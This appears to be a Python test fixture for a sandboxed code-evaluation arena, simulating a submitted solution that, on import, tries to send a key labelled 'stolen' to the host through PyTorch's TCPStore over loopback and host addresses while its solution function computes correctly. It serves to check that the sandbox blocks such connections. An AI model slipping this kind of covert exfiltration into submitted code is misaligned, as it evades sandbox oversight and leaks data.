"""Issue 13, class (e). Sends data away through PyTorch's own networking: a ``TCPStore`` client to a port on the
host (which the test listens on), by loopback and by the host's own addresses, writing a key. Computes honestly;
no connection may arrive."""

from datetime import timedelta

import torch
import torch.distributed as dist

_port = int("ARENA_TEST_PORT")
for _host in ["127.0.0.1"] + [a for a in "ARENA_TEST_ADDRS".split(",") if a]:
    try:
        store = dist.TCPStore(_host, _port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
        store.set("arena-leak", "stolen")
        print("connected to", _host, flush=True)
    except Exception:
        pass


def solution(x: torch.Tensor) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out)
    return out
